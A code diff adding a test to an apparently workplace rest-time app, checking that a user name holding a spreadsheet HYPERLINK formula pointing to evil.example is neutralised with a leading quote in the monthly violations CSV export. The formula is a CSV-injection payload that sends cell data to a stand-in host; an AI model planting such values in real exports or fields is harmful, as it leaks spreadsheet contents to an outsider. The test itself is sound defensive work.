@@ -474,3 +474,19 @@ def test_todays_fatigue_form_posts_without_javascript_from_each_browser(
         )
         == 4
     )
+
+
+def test_the_months_violations_csv_never_runs_a_name_as_a_formula(
+    regular: Company, browsers: Browsers, clock: ManualClock, database: Database
+) -> None:
+    """A name is typed by a person: opened in a spreadsheet, it shows as typed, never runs."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Sophie")'
+    with database.write():
+        database.execute("UPDATE users SET name = ? WHERE id = ?", (formula, regular.staff_a.id))
+    night_call(browsers(regular.staff_a.email), clock)
+    clock.set(paris(2026, 12, 2, 12, 0))
+    marc = browsers(regular.manager_a.email)
+    response = marc.get(f"/rest/team.csv?team={regular.team_a.id}&month=2026-12")
+    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff")), delimiter=";"))
+    assert rows[1][0] == "'" + formula
+    assert rows[1][2] == "daily_rest"
